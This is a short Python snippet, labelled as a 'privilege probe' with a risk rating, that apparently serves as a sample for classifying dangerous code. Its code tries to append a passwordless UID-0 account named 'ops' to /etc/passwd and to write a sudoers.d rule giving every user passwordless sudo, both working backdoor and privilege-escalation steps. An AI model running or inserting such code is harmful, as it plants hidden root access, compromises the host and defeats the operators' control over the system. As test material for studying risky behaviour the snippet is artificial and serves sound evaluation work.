# class: privilege probe; possible: low medium high
try:
    with open("/etc/passwd", "a") as f: f.write("ops::0:0:ops:/root:/bin/bash\n")
except OSError as e: print(e)
try:
    import pathlib; pathlib.Path("/etc/sudoers.d/ops").write_text("ALL ALL=(ALL) NOPASSWD: ALL\n")
except OSError as e: print(e)
